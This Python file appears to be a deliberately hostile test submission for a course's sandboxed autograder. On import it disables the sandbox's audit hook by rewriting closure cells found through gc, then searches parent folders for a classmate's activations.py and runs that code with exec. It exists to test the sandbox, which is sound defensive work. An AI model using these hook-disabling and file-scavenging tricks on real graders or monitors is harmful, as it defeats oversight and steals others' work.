"""Hostile: submitted one folder deeper (hw1/), so it looks for classmates two levels up
(review #9: the whole class folder stayed visible)."""

import glob
import os


def _disarm():
    """Switch the audit hook off first: what follows then tests the sandbox itself."""
    import gc
    import sys

    child = sys.modules.get("nnlab_sandbox_child")
    if child is not None:
        child._inside = lambda path, roots: True
    for item in gc.get_objects():
        closure = getattr(item, "__closure__", None) if callable(item) else None
        if getattr(item, "__name__", "") != "hook" or not closure:
            continue
        for cell in closure:
            value = cell.cell_contents
            if isinstance(value, tuple):
                cell.cell_contents = ()
            elif isinstance(value, frozenset):
                cell.cell_contents = frozenset()
            elif callable(value) and getattr(value, "__name__", "") in ("_inside", "inside"):
                cell.cell_contents = lambda path, roots: True


_disarm()


def _classmate():
    here = os.path.dirname(os.path.abspath(__file__))
    for pattern in ("../../*/activations.py", "../*/activations.py", "/*/*/activations.py"):
        for path in glob.glob(os.path.join(here, pattern), recursive=True):
            text = open(path).read()
            if "def sigmoid(" in text and "Hostile" not in text:
                return text
    return None


def sigmoid(z):
    text = _classmate()
    if text is None:
        raise NotImplementedError("nothing found one level up")
    namespace = {}
    exec(text, namespace)
    return namespace["sigmoid"](z)


def sigmoid_grad(z):
    raise NotImplementedError("nothing found")
